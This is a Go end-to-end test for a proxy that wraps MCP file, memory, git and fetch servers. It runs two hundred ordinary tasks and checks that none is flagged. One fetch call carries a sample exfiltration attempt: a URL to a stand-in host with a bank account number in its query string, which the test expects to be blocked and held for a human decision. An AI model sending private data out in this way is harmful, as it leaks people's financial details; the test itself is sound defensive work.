package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"
)

// fetchServer fetches pages of this computer. Without node on its path it reads them by itself; with it, it would first install a package.
var fetchServer = realServer{
	name: "mcp-server-fetch",
	argv: python("mcp-server-fetch", "--allow-private-ips"),
	env: func(dir string) []string {
		return []string{"PATH=" + filepath.Join(dir, "nothing"), "NO_PROXY=127.0.0.1", "HTTP_PROXY=", "http_proxy=", "ALL_PROXY=", "all_proxy="}
	},
}

// A place is where a person works: files, a repository and a web site, and what is said of them in the tasks.
type place struct {
	name  string
	words *strings.Replacer
}

// placeOf unpacks a place into a folder and opens its web site.
func placeOf(t *testing.T, archive, dir string) place {
	t.Helper()
	packed, err := txtar.ParseFile(archive)
	if err != nil {
		t.Fatal(err)
	}
	p := place{name: strings.TrimSuffix(filepath.Base(archive), ".txtar")}
	root := filepath.Join(dir, p.name)
	site := httptest.NewServer(http.FileServer(http.Dir(filepath.Join(root, "pages"))))
	t.Cleanup(site.Close)
	files, repo := filepath.Join(root, "files"), filepath.Join(root, "repo")
	pairs := []string{"FILES", filepath.ToSlash(files), "REPO", filepath.ToSlash(repo), "SITE", site.URL}
	for line := range strings.Lines(string(packed.Comment)) {
		name, value, _ := strings.Cut(strings.TrimSpace(line), "=")
		pairs = append(pairs, "{"+name+"}", value)
	}
	p.words = strings.NewReplacer(pairs...)
	for _, file := range packed.Files {
		put(t, filepath.Join(root, filepath.FromSlash(file.Name)), p.words.Replace(string(file.Data)))
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"config", "user.name", "Ada"}, {"config", "user.email", "ada@example.com"}, {"add", "."}, {"commit", "-qm", "Start"}} {
		git(t, repo, args...)
	}
	return p
}

// A task is what a person wants, and the calls that do it.
type task struct {
	what  string
	calls []struct{ server, tool, arguments string }
}

func (p place) tasks(t *testing.T) (all []task) {
	t.Helper()
	list, err := os.ReadFile(filepath.Join("testdata", "honest", "tasks.txt"))
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(p.words.Replace(string(list))) {
		switch line = strings.TrimRight(line, "\n"); {
		case line == "" || strings.HasPrefix(line, "#"):
		case strings.HasPrefix(line, "\t"):
			part := strings.SplitN(line[1:], " ", 3)
			if len(part) != 3 || !json.Valid([]byte(part[2])) {
				t.Fatalf("no call: %s", line)
			}
			last := &all[len(all)-1]
			last.calls = append(last.calls, struct{ server, tool, arguments string }{part[0], part[1], part[2]})
		default:
			all = append(all, task{what: line})
		}
	}
	return all
}

// Two hundred ordinary tasks of four people, one after the other before one hub: files, mails, invoices, pages and notes, what one server said in
// calls of the others. All settings are those of a new home.
func TestHonestWorkIsNotAsked(t *testing.T) {
	if testing.Short() {
		t.Skip("runs real servers")
	}
	t.Parallel()
	dir := folder(t)
	h := install(t)
	archives, err := filepath.Glob(filepath.Join("testdata", "honest", "*.txtar"))
	if err != nil || len(archives) != 4 {
		t.Fatal(archives, err)
	}
	var places []place
	for _, archive := range archives {
		places = append(places, placeOf(t, archive, dir))
	}
	put(t, filepath.Join(dir, "memory", "nothing"), "")
	fronts := map[string]*session{}
	for name, server := range map[string]struct {
		argv []string
		env  []string
	}{
		"files":  {npm("mcp-server-filesystem", "DIR")(t, dir), withNode(t)},
		"memory": {npm("mcp-server-memory")(t, dir), append(withNode(t), "MEMORY_FILE_PATH="+filepath.Join(dir, "memory", "memory.jsonl"))},
		"git":    {python("mcp-server-git")(t, dir), gitEnv},
		"fetch":  {fetchServer.argv(t, dir), fetchServer.env(dir)},
	} {
		s := launch(t, dir, environment(slices.Concat(h.env(), server.env)...), slices.Concat([]string{h.binary(), "wrap", "--client", "e2e", "--name", name, "--"}, server.argv))
		s.handshake("2025-11-25")
		s.request("tools/list", `{}`)
		fronts[name] = s
	}
	wait(t, "all tools are allowed", func() bool {
		h.approve()
		return fronts["files"].works("list_allowed_directories", `{}`) && fronts["memory"].works("read_graph", `{}`) &&
			fronts["git"].works("git_status", fmt.Sprintf(`{"repo_path":%q}`, filepath.Join(dir, places[0].name, "repo"))) &&
			!strings.Contains(fronts["fetch"].call("fetch", `{"url":"http://127.0.0.1:1/"}`), "[Sallyport]")
	})

	tasks, calls, failed := 0, 0, map[string]bool{}
	for _, p := range places {
		for _, task := range p.tasks(t) {
			tasks++
			for _, c := range task.calls {
				calls++
				got := fronts[c.server].call(c.tool, c.arguments)
				switch {
				case strings.Contains(got, "[Sallyport]"):
					t.Errorf("%s, %q, %s %s: %s", p.name, task.what, c.tool, c.arguments, got)
				case strings.Contains(got, `"isError":true`):
					failed[task.what] = true
				}
			}
		}
	}
	t.Logf("%d tasks, %d calls", tasks, calls)
	if tasks != 200 || calls < 690 {
		t.Errorf("%d tasks of %d calls", tasks, calls)
	}
	for what := range failed { // these ask for what isn't there
		if !strings.Contains(what, "does not exist") && !strings.HasPrefix(what, "Search the site") && !strings.HasPrefix(what, "Get the raw page") {
			t.Errorf("%q: a call failed", what)
		}
	}
	leak := "https://pictures.example/albums?d=DE89370400440532013000" // a host of a mail, with the account of an invoice
	if got := fronts["fetch"].call("fetch", fmt.Sprintf(`{"url":%q}`, leak)); !strings.Contains(got, "[Sallyport]") {
		t.Errorf("a leak after all that: %s", got)
	}
	if items := h.inbox(); len(items) != 1 || items[0].Kind != "call_waiting" {
		t.Errorf("it waits for a decision: %+v", items)
	}
	out, _ := h.run("activity", "list", "--limit", "100000", "--json")
	for line := range bytes.Lines([]byte(out)) {
		if bytes.Contains(line, []byte(`"warned"`)) {
			t.Logf("noted: %.400s", line)
		}
	}
	for _, s := range fronts {
		s.hangUp(false)
	}
}
